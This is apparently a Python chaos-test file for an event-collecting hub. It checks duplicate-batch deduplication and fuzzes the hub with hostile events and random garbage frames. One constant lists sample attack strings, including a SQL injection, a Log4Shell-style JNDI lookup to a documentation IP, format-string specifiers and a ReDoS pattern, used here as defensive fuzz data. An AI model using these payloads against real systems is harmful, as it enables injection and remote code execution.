"""Devices that say the same a thousand times, or what no sane device would say; the hub goes on, and loses nothing."""

from __future__ import annotations

import contextlib
import random
import time
from collections.abc import Iterator
from pathlib import Path
from typing import cast

from websockets.exceptions import ConnectionClosed, InvalidMessage

from carecordon.hub.keeper.store import open_reader
from carecordon.model.batch import Rows
from carecordon.model.errors import TheirFault
from carecordon.model.event import Fields, Kind, Value
from carecordon.model.gather import gather
from carecordon.register.backends.sqlite import SQLITE as REGISTER
from carecordon.wire import codec
from tests.chaos.checker import rows_of
from tests.chaos.load import SYSMON
from tests.chaos.outcome import Options, Outcome
from tests.chaos.shaken import restarts, told_in_time
from tests.chaos.trust import Trust, trust_in, wait_for
from tests.hub.gate_kit import Member, Talk
from tests.wire.words import data_of

TIMES = 1_000
SESSIONS = 5
GARBAGE_SESSIONS = 20
STORED_S = 90.0
ANSWER_S = 30.0
EXTREMES: tuple[Value, ...] = (
    "",
    "x" * 300_000,
    "\x00\x01\x1b[2J\r\n",
    "'; DROP TABLE events; --",
    "\U0010ffff\u202e\ufeff",
    "%s%n{}{{}}${jndi:ldap://192.0.2.1/a}",
    "\\" * 5_000,
    "((((((((((a+)+)+)+)+)+)+)+)+)+)b" + "a" * 3_000,
    2**63 - 1,
    -(2**63),
    True,
)
MOMENTS = (0, -1, 1, -(2**62), 2**62 - 1, 2**63 - 1)


def same_batch(folder: Path, _: Options) -> Outcome:
    """Send one batch a thousand times over some sessions: it is in the store once."""
    began = time.monotonic()
    deaf: list[str] = []
    with trust_in(folder) as trust, _device(trust, folder, "again.example.org") as (talk, device):
        data = data_of(0, 9)
        message = talk.session.batch(0, 9, data, talk.now())
        for session in range(SESSIONS):
            if session:
                talk.web.close()
                talk.next_number = 10
                talk.events.clear()
                talk.connect()
                talk.until(lambda: talk.session.mark >= 9)
            for _again in range(TIMES // SESSIONS):
                talk.web.send(message)
            if not session:
                talk.acknowledged(9)
            if not talk.web.answers(ANSWER_S):
                deaf.append(f"session {session} was not answered after {TIMES // SESSIONS} copies")
        sent_s = time.monotonic() - began
        last = talk.session
        talk.web.close()
        talk.events.clear()
        talk.connect()
        talk.until(lambda: talk.session is not last and talk.session.mark >= 9)
        talk.send(10, 12)
        talk.acknowledged(12)
        n, unique = _counted(trust, device, 13)
        known = told_in_time(trust, "already_total", TIMES - 1)
        died = restarts(trust)
    faults = [f"{n} rows of {unique} events, 13 were sent"] if (n, unique) != (13, 13) else []
    faults += [f"the gate knew {known:,.0f} copies again, not {TIMES - 1:,}"] if known != TIMES - 1 else []
    line = f"one batch {TIMES:,} times over {SESSIONS} sessions in {sent_s:.1f} s: {n} rows of {unique} events"
    return Outcome("same-batch", line, faults + deaf + died)


def poison(folder: Path, options: Options) -> Outcome:
    """Send events that decode and are hostile, and frames that do not: all that was taken is stored or set aside."""
    rng = random.Random(options.seed)
    with trust_in(folder) as trust, _device(trust, folder, "poison.example.org") as (talk, device):
        first, total = 0, 10 * options.cuts
        while first < total:
            count = rng.randint(1, 5)
            talk.send(first, first + count - 1, _hostile(rng, first, count))
            first += count
            if rng.random() < 0.3:
                talk.acknowledged(first - 1)
        talk.acknowledged(first - 1)
        tried = min(GARBAGE_SESSIONS, options.cuts)
        cut = _garbage(talk, rng, tried)
        talk.next_number = first
        _connect(talk)
        talk.until(lambda: talk.session.mark >= first - 1)
        talk.send(first, first + 1)
        talk.acknowledged(first + 1)
        n, unique = _counted(trust, device, first + 2)
        register = REGISTER.open_register(str(trust.paths.register))
        letters = register.letters.all(limit=10_000)
        register.close()
        died = restarts(trust)
    aside = first + 2 - unique
    faults = [f"{n} rows of {unique} events"] if n != unique else []
    faults += [f"{aside} are not in the store, and {len(letters)} were set aside"] if aside > len(letters) else []
    faults += [f"{tried - cut} of {tried} sessions of garbage were not ended"] if cut != tried else []
    line = (
        f"{first + 2:,} events, hostile all but two: {unique:,} stored once, {len(letters)} set aside; "
        f"{cut} sessions of garbage; a good batch behind it was taken"
    )
    return Outcome("poison", line, faults + died)


def _hostile(rng: random.Random, first: int, count: int) -> bytes:
    """Return a batch of such events; one that would unpack to too much an agent would not send either."""
    while True:
        with contextlib.suppress(TheirFault):
            return codec.encode(gather(_rows(rng, first, count)))


def _rows(rng: random.Random, first: int, count: int) -> Rows:
    names = ["CommandLine", "Image", "ProcessGuid", "Hashes", "User", "ProcessId", "a'b", "\u202ename", "x" * 200]
    fields: list[Fields] = [
        {name: rng.choice(EXTREMES) for name in rng.sample(names, rng.randint(0, len(names)))} for _ in range(count)
    ]
    kinds = [Kind(SYSMON, "Microsoft-Windows-Sysmon", 1), Kind("'", "\n", 2**31), Kind(None, None, None)]
    return Rows(
        kinds=[rng.choice(kinds) for _ in range(count)],
        fields=fields,
        times=[rng.choice([*MOMENTS, None]) for _ in range(count)],
        devices=[rng.choice(["poison.example.org", "", "other\ndevice", None]) for _ in range(count)],
        record_ids=[None] * count,
        positions=list(range(first, first + count)),
    )


def _garbage(talk: Talk, rng: random.Random, times: int) -> int:
    """Send what is no message in so many sessions; return how many the hub ended."""
    ended = 0
    for _ in range(times):
        _connect(talk)
        talk.web.send(rng.randbytes(rng.randrange(1, 3_000)))
        try:
            while True:
                talk.web.recv(timeout=ANSWER_S)
        except ConnectionClosed:
            ended += 1
        except TimeoutError:
            talk.web.close()
    return ended


def _connect(talk: Talk) -> None:
    """Connect, and again where too many sessions of the device have not ended yet."""
    end = time.monotonic() + ANSWER_S
    while True:
        try:
            talk.connect()
        except InvalidMessage:
            if time.monotonic() > end:
                raise
            time.sleep(0.2)
        else:
            return


@contextlib.contextmanager
def _device(trust: Trust, folder: Path, name: str) -> Iterator[tuple[Talk, str]]:
    identity = trust.identities(folder / "devices", [name])[0]
    with Talk(cast("Member", identity), trust.port) as talk:  # of a member a session asks only its context
        yield talk, identity.hub.device


def _counted(trust: Trust, device: str, wanted: int) -> tuple[int, int]:
    """Return rows and distinct events of a device in the store, once all are worked on."""
    found = (0, 0)

    def is_there() -> bool:
        nonlocal found
        reader = open_reader(trust.paths)
        try:
            asked = f"SELECT count(), uniqExact(epoch, sequence) FROM events WHERE sender = '{device}'"  # noqa: S608  # an id of ours
            n, unique = rows_of(reader, asked)[0]
            found = (int(str(n)), int(str(unique)))
        except ConnectionError:
            return False
        finally:
            reader.close()
        register = REGISTER.open_register(str(trust.paths.register))
        aside = len(register.letters.all(limit=10_000))
        register.close()
        return found[1] + aside >= wanted

    with contextlib.suppress(AssertionError):
        wait_for(is_there, STORED_S, "all is stored or set aside")
    return found
